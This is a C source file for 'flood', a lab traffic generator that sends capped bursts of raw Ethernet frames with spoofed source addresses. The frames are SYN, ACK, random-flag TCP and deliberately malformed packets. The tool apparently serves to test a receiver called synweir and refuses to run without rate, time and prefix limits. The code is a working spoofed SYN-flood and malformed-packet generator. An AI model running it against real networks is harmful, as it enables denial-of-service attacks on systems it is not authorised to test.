/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * flood - send a bounded number of spoofed packets out of one interface, and say how many.
 *
 * For the lab only: it refuses to start without a rate, a time and a source prefix, and stops by
 * itself. "sent" counts the frames that the device took (a full transmit queue is "refused"), so
 * the figure can be held against what synweir says it received.
 *
 * Frames come from a seeded generator: the same seed sends the same frames. Everything about the
 * destination is fixed, everything about the source is drawn from the prefix.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH       64
#define FRAME_MAX   256 /* bytes: a flood is made of small frames */
#define RATE_MAX    2000000
#define SECONDS_MAX 600
#define NS_PER_S    1000000000ull
#define NAP_NS      1000000 /* few wake-ups: the cores are for the others */

enum kind { KIND_SYN, KIND_ACK, KIND_FLAGS, KIND_GARBAGE };
static const char *const kind_names[] = {"syn", "ack", "flags", "garbage"};

struct options {
	const char *iface;
	bool v6;
	struct in_addr target_be, prefix_be;
	struct in6_addr target6, prefix6;
	uint32_t prefix_bits;
	uint16_t port;
	uint8_t mac[ETH_ALEN];
	enum kind kind;
	uint64_t rate_pps;
	double seconds;
	uint64_t count; /* frames; 0: no matter */
	uint64_t seed;
};

struct frame {
	_Alignas(8) uint8_t pad[2]; /* puts the IP header behind Ethernet on a word boundary */
	uint8_t bytes[FRAME_MAX];
	size_t len, l4; /* its end, and where TCP begins */
};

static volatile sig_atomic_t stopped;
static uint64_t rng_state;

static void on_signal(int signo)
{
	(void)signo;
	stopped = 1;
}

/* xorshift64*: fast, and the same on every machine. */
static uint64_t rng(void)
{
	rng_state ^= rng_state >> 12;
	rng_state ^= rng_state << 25;
	rng_state ^= rng_state >> 27;
	return rng_state * 0x2545f4914f6cdd1dull;
}

static uint32_t rng_below(uint32_t n)
{
	return (uint32_t)((rng() >> 32) % n);
}

static void rng_fill(uint8_t *bytes, size_t len)
{
	for (size_t i = 0; i < len; i++)
		bytes[i] = (uint8_t)(rng() >> 40);
}

static uint64_t now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * NS_PER_S + (uint64_t)ts.tv_nsec;
}

static uint32_t csum_add(uint32_t sum, const uint8_t *bytes, size_t len)
{
	for (size_t i = 0; i + 1 < len; i += 2)
		sum += (uint32_t)bytes[i] << 8 | bytes[i + 1];
	if (len & 1)
		sum += (uint32_t)bytes[len - 1] << 8;
	return sum;
}

static uint16_t csum_end_be(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

static uint32_t spoofed_source_be(const struct options *opt)
{
	uint32_t host_mask = opt->prefix_bits == 32 ? 0 : UINT32_MAX >> opt->prefix_bits;

	return htonl(ntohl(opt->prefix_be.s_addr) | ((uint32_t)(rng() >> 16) & host_mask));
}

static struct in6_addr spoofed_source6(const struct options *opt)
{
	struct in6_addr a = opt->prefix6;
	uint32_t bits = opt->prefix_bits;

	for (unsigned int i = bits / 8; i < sizeof(a.s6_addr); i++) {
		uint8_t host_mask = i == bits / 8 ? (uint8_t)(0xff >> bits % 8) : 0xff;

		a.s6_addr[i] |= (uint8_t)(rng() >> 40) & host_mask;
	}
	return a;
}

/* The options of a Linux SYN: MSS 1460, SACK permitted, timestamps, NOP, window scale 7. */
static const uint8_t syn_options[] = {
	2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 0, 0, 0, 0, 0, 0, 0, 1, 3, 3, 7};

static struct tcphdr *frame_l4(struct frame *f)
{
	return (struct tcphdr *)(f->bytes + f->l4);
}

/* The pseudo header has the same sum in both families: RFC 9293 §3.1, RFC 8200 §8.1. */
static void frame_finish(struct frame *f)
{
	struct iphdr *ip = (struct iphdr *)(f->bytes + ETH_HLEN);
	struct tcphdr *tcp = frame_l4(f);
	size_t tcp_len = f->len - f->l4;
	bool v6 = f->l4 == ETH_HLEN + sizeof(struct ip6_hdr);
	uint32_t sum;

	if (v6)
		sum = csum_add(0, f->bytes + ETH_HLEN + 8, 32);
	else
		sum = csum_add(0, (const uint8_t *)&ip->saddr, 8);
	if (!v6)
		ip->check = csum_end_be(csum_add(0, (const uint8_t *)ip, sizeof(*ip)));
	sum += IPPROTO_TCP + (uint32_t)tcp_len;
	tcp->check = csum_end_be(csum_add(sum, (const uint8_t *)tcp, tcp_len));
}

static void frame_ipv4(struct frame *f, const struct options *opt, size_t l4_len)
{
	struct iphdr *ip = (struct iphdr *)(f->bytes + ETH_HLEN);

	ip->version = 4;
	ip->ihl = 5;
	ip->tot_len = htons((uint16_t)(sizeof(*ip) + l4_len));
	ip->id = (uint16_t)rng();
	ip->frag_off = htons(IP_DF);
	ip->ttl = 64;
	ip->protocol = IPPROTO_TCP;
	ip->saddr = spoofed_source_be(opt);
	ip->daddr = opt->target_be.s_addr;
}

static void frame_ipv6(struct frame *f, const struct options *opt, size_t l4_len)
{
	struct ip6_hdr ip = {.ip6_src = spoofed_source6(opt), .ip6_dst = opt->target6};

	ip.ip6_flow = htonl(6u << 28 | rng_below(1 << 20)); /* a flow label each */
	ip.ip6_plen = htons((uint16_t)l4_len);
	ip.ip6_nxt = IPPROTO_TCP;
	ip.ip6_hlim = 64;
	memcpy(f->bytes + ETH_HLEN, &ip, sizeof(ip));
}

/* A well-formed TCP frame without checksums; options_len is a multiple of four. */
static void frame_tcp(struct frame *f, const struct options *opt, const uint8_t *options,
	size_t options_len, size_t payload_len)
{
	size_t l4_len = sizeof(struct tcphdr) + options_len + payload_len;
	struct tcphdr *tcp;

	f->l4 = ETH_HLEN + (opt->v6 ? sizeof(struct ip6_hdr) : sizeof(struct iphdr));
	f->len = f->l4 + l4_len;
	tcp = frame_l4(f);
	memset(f->bytes + ETH_HLEN, 0, f->len - ETH_HLEN);
	if (opt->v6)
		frame_ipv6(f, opt, l4_len);
	else
		frame_ipv4(f, opt, l4_len);
	tcp->source = htons((uint16_t)(1024 + rng_below(64512)));
	tcp->dest = htons(opt->port);
	tcp->seq = (uint32_t)rng();
	tcp->doff = (sizeof(*tcp) + options_len) / 4 & 0xfu;
	tcp->window = htons(64240);
	memcpy(tcp + 1, options, options_len);
}

static void frame_syn(struct frame *f, const struct options *opt)
{
	uint32_t tsval_be = (uint32_t)rng();
	struct tcphdr *tcp;

	frame_tcp(f, opt, syn_options, sizeof(syn_options), 0);
	tcp = frame_l4(f);
	memcpy((uint8_t *)(tcp + 1) + 8, &tsval_be, sizeof(tsval_be));
	tcp->syn = 1;
	frame_finish(f);
}

static void frame_ack(struct frame *f, const struct options *opt)
{
	frame_tcp(f, opt, syn_options, 0, 0);
	frame_l4(f)->ack = 1;
	frame_l4(f)->ack_seq = (uint32_t)rng();
	frame_finish(f);
}

/* Any flags, any option bytes, some payload; everything else is right. */
static void frame_flags(struct frame *f, const struct options *opt)
{
	uint8_t options[40];
	struct tcphdr *tcp;

	rng_fill(options, sizeof(options));
	frame_tcp(f, opt, options, 4 * rng_below(11), rng_below(64));
	tcp = frame_l4(f);
	((uint8_t *)tcp)[13] = (uint8_t)rng();
	tcp->ack_seq = (uint32_t)rng();
	tcp->window = (uint16_t)rng();
	frame_finish(f);
}

/* Fields of either header, by where they are behind Ethernet. */
static void put_length(struct frame *f, bool v6, uint16_t value)
{
	memcpy(f->bytes + ETH_HLEN + (v6 ? 4 : 2), &value, sizeof(value));
}

static void put_protocol(struct frame *f, bool v6, uint8_t value)
{
	f->bytes[ETH_HLEN + (v6 ? 6 : 9)] = value;
}

/* IPv4: any offset; IPv6: a fragment header where TCP was. */
static void make_fragment(struct frame *f, bool v6)
{
	struct iphdr *ip = (struct iphdr *)(f->bytes + ETH_HLEN);

	if (v6) {
		put_protocol(f, true, IPPROTO_FRAGMENT);
		f->bytes[f->l4] = IPPROTO_TCP;
		return;
	}
	ip->frag_off = htons((uint16_t)(IP_MF | rng_below(0x2000)));
	frame_finish(f);
}

static void make_other_protocol(struct frame *f, bool v6)
{
	const uint8_t icmp = v6 ? IPPROTO_ICMPV6 : IPPROTO_ICMP;

	put_protocol(f, v6, rng_below(2) ? icmp : (uint8_t)rng());
	rng_fill(f->bytes + f->l4, f->len - f->l4);
	frame_finish(f);
}

/* Something that no honest host sends; each case breaks one layer. */
static void frame_garbage(struct frame *f, const struct options *opt)
{
	static const uint16_t types[] = {
		ETHERTYPE_IP, ETHERTYPE_ARP, ETHERTYPE_IPV6, ETHERTYPE_VLAN, 0x88a8, 0x0000};

	frame_flags(f, opt);
	switch (rng_below(8)) {
	case 0: /* one byte wrong anywhere behind the Ethernet header */
		f->bytes[ETH_HLEN + rng_below((uint32_t)(f->len - ETH_HLEN))] ^=
			(uint8_t)(1 + rng_below(255));
		break;
	case 1: /* cut short, down to a bare Ethernet header */
		f->len = ETH_HLEN + rng_below((uint32_t)(f->len - ETH_HLEN));
		break;
	case 2: /* header lengths that lie, checksums that hold */
		f->bytes[f->l4 + 12] = (uint8_t)(rng_below(16) << 4);
		frame_finish(f);
		break;
	case 3: /* an IP length that lies */
		put_length(f, opt->v6, (uint16_t)rng());
		frame_finish(f);
		break;
	case 4: /* version and header length of IP */
		f->bytes[ETH_HLEN] = (uint8_t)rng();
		break;
	case 5:
		make_fragment(f, opt->v6);
		break;
	case 6: /* ICMP most of all, which quotes packets */
		make_other_protocol(f, opt->v6);
		break;
	default: /* noise behind any EtherType */
		*(uint16_t *)(f->bytes + 2 * ETH_ALEN) = htons(types[rng_below(6)]);
		rng_fill(f->bytes + ETH_HLEN, f->len - ETH_HLEN);
		break;
	}
}

static void frame_build(struct frame *f, const struct options *opt)
{
	struct ether_header *eth = (struct ether_header *)f->bytes;

	eth->ether_type = htons(opt->v6 ? ETHERTYPE_IPV6 : ETHERTYPE_IP);
	switch (opt->kind) {
	case KIND_SYN:
		frame_syn(f, opt);
		break;
	case KIND_ACK:
		frame_ack(f, opt);
		break;
	case KIND_FLAGS:
		frame_flags(f, opt);
		break;
	case KIND_GARBAGE:
		frame_garbage(f, opt);
		break;
	}
}

static int socket_open(const char *iface)
{
	struct sockaddr_ll addr = {
		.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(iface)};
	int one = 1;
	int fd = socket(AF_PACKET, SOCK_RAW, 0); /* protocol 0: receives nothing */

	if (fd < 0 || addr.sll_ifindex == 0 ||
		bind(fd, (struct sockaddr *)&addr, sizeof(addr)) < 0) {
		fprintf(stderr, "flood: %s: %s\n", iface, strerror(errno));
		exit(1);
	}
	/* Straight to the driver: a refused frame is reported here and not lost in a queue. */
	(void)setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one));
	return fd;
}

static void batch_init(struct mmsghdr *msgs, struct iovec *iovs, struct frame *frames,
	const uint8_t *mac)
{
	for (size_t i = 0; i < BATCH; i++) {
		memcpy(frames[i].bytes, mac, ETH_ALEN);
		memcpy(frames[i].bytes + ETH_ALEN, "\x02\x00\x00\x00\x66\x66", ETH_ALEN);
		iovs[i].iov_base = frames[i].bytes;
		msgs[i].msg_hdr = (struct msghdr){.msg_iov = &iovs[i], .msg_iovlen = 1};
	}
}

static void run(const struct options *opt, int fd)
{
	static struct frame frames[BATCH];
	struct iovec iovs[BATCH];
	struct mmsghdr msgs[BATCH] = {0};
	uint64_t sent = 0, refused = 0, start_ns = now_ns(), elapsed_ns = 0;
	uint64_t limit_ns = (uint64_t)(opt->seconds * (double)NS_PER_S);

	batch_init(msgs, iovs, frames, opt->mac);
	while (!stopped && (elapsed_ns = now_ns() - start_ns) < limit_ns) {
		uint64_t due = (uint64_t)((double)elapsed_ns / 1e9 * (double)opt->rate_pps);
		uint64_t behind = due > sent + refused ? due - sent - refused : 0;
		unsigned int n = behind < BATCH ? (unsigned int)behind : BATCH;

		if (opt->count > 0 && n > opt->count - sent)
			n = (unsigned int)(opt->count - sent);
		if (opt->count > 0 && sent == opt->count)
			break;
		if (n == 0) {
			nanosleep(&(struct timespec){.tv_nsec = NAP_NS}, NULL);
			continue;
		}
		for (unsigned int i = 0; i < n; i++) {
			frame_build(&frames[i], opt);
			iovs[i].iov_len = frames[i].len;
		}
		for (unsigned int i = 0; i < n;) {
			int done = sendmmsg(fd, msgs + i, n - i, 0);

			if (done > 0)
				sent += (unsigned int)done;
			else
				refused++;
			i += done > 0 ? (unsigned int)done : 1;
		}
	}
	printf("sent=%llu refused=%llu seconds=%.2f began=%.6f\n", (unsigned long long)sent,
		(unsigned long long)refused, (double)elapsed_ns / 1e9, (double)start_ns / 1e9);
}

static void usage(void)
{
	fprintf(stderr,
		"usage: flood -i IFACE -m DST_MAC -d DST_IP -p DST_PORT -s SPOOFED/BITS\n"
		"             -k syn|ack|flags|garbage -r PPS -t SECONDS [-n PACKETS] [-S SEED]\n"
		"PPS at most %d, SECONDS at most %d; DST_IP and SPOOFED of one family.\n",
		RATE_MAX, SECONDS_MAX);
	exit(2);
}

static bool parse_target(const char *text, struct options *opt)
{
	opt->v6 = strchr(text, ':') != NULL;
	return opt->v6
		? inet_pton(AF_INET6, text, &opt->target6) == 1
		: inet_pton(AF_INET, text, &opt->target_be) == 1 && opt->target_be.s_addr != 0;
}

/* Sources are drawn by OR: there must be nothing beyond the prefix. */
static bool parse_prefix(const char *text, struct options *opt)
{
	char addr[INET6_ADDRSTRLEN];
	const char *slash = strchr(text, '/');
	bool v6 = strchr(text, ':') != NULL;
	uint32_t host_mask;

	if (!slash || (size_t)(slash - text) >= sizeof(addr))
		return false;
	memcpy(addr, text, (size_t)(slash - text));
	addr[slash - text] = '\0';
	opt->prefix_bits = (uint32_t)strtoul(slash + 1, NULL, 10);
	if (opt->prefix_bits < 8 || opt->prefix_bits > (v6 ? 128 : 32))
		return false;
	if (v6)
		return inet_pton(AF_INET6, addr, &opt->prefix6) == 1;
	host_mask = opt->prefix_bits == 32 ? 0 : UINT32_MAX >> opt->prefix_bits;
	if (inet_pton(AF_INET, addr, &opt->prefix_be) != 1)
		return false;
	opt->prefix_be.s_addr &= htonl(~host_mask);
	return true;
}

static bool parse_kind(const char *text, enum kind *kind)
{
	for (size_t i = 0; i < sizeof(kind_names) / sizeof(kind_names[0]); i++) {
		if (strcmp(text, kind_names[i]) == 0) {
			*kind = (enum kind)i;
			return true;
		}
	}
	return false;
}

static bool parse_option(int c, const char *arg, struct options *opt)
{
	switch (c) {
	case 'i':
		opt->iface = arg;
		return true;
	case 'm':
		return ether_aton_r(arg, (struct ether_addr *)opt->mac) != NULL;
	case 'd':
		return parse_target(arg, opt);
	case 'p':
		opt->port = (uint16_t)strtoul(arg, NULL, 10);
		return opt->port != 0;
	case 's':
		return parse_prefix(arg, opt);
	case 'k':
		return parse_kind(arg, &opt->kind);
	case 'r':
		opt->rate_pps = strtoull(arg, NULL, 10);
		return opt->rate_pps <= RATE_MAX;
	case 't':
		opt->seconds = strtod(arg, NULL);
		return opt->seconds <= SECONDS_MAX;
	case 'n':
		opt->count = strtoull(arg, NULL, 10);
		return true;
	case 'S':
		opt->seed = strtoull(arg, NULL, 10);
		return true;
	}
	return false;
}

int main(int argc, char **argv)
{
	struct options opt = {.seed = 1};
	struct sigaction stop = {.sa_handler = on_signal};
	int c;

	while ((c = getopt(argc, argv, "i:m:d:p:s:k:r:t:n:S:")) != -1) {
		if (!parse_option(c, optarg, &opt))
			usage();
	}
	if (!opt.iface || !opt.prefix_bits || !opt.port || !opt.rate_pps || opt.seconds <= 0)
		usage();
	rng_state = opt.seed * 0x9e3779b97f4a7c15ull | 1;
	sigaction(SIGTERM, &stop, NULL);
	sigaction(SIGINT, &stop, NULL);
	run(&opt, socket_open(opt.iface));
	return 0;
}
